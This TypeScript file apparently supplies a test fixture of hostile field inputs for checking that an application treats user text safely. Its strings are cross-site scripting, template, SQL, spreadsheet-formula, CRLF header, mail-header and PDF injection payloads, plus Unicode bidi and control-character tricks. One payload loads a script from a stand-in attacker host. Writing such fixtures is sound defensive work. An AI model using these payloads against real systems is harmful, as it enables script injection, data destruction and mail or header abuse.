/** Who shows one of these as anything but text leaves a mark on the page: `data-pwned` on its root. */
const PWN = 'document.documentElement.dataset.pwned=1'

/** What an attacker writes into a field who wants more of it than a text. Each is at most 60 characters long. */
export const hostileWords = [
  `<script>${PWN}</script>`.slice(0, 60),
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script src=//evil.example/x></script>',
  `' onmouseover=alert(1) x='`,
  '<a href="javascript:alert(1)">pay</a>',
  'javascript:alert(1)',
  `{{constructor.constructor('alert(1)')()}}`,
  '${alert(1)} #{alert(1)} <%= 7*7 %>',
  '</script><script>alert(1)</script>',
  '</title></style><style>*{display:none}</style>',
  '"},"pwned":true,"x":{"y":"',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#x3c;script&#62;alert(1)',
  ') Tj /JS (app.alert(1)) /OpenAction',
  "'; drop table account; --",
  '=HYPERLINK("http://evil.example","x")',
  '%0d%0aBcc: everybody@evil.example',
  'Inn\r\nBcc: everybody@evil.example\r\n\r\n<h1>Pay</h1>',
  'Inn\nSet-Cookie: sid=planted',
  'Maya\u202Eelpmaxe.live//:sptth\u202C',
  '\u2066Maya\u2069',
  'Ma\0ya',
  'Ma\ud83dya',
  'Ma\u2028ya',
  'Maya\u200B\u200D\uFEFF',
  'فندق السلام',
  'W'.repeat(60),
] as const
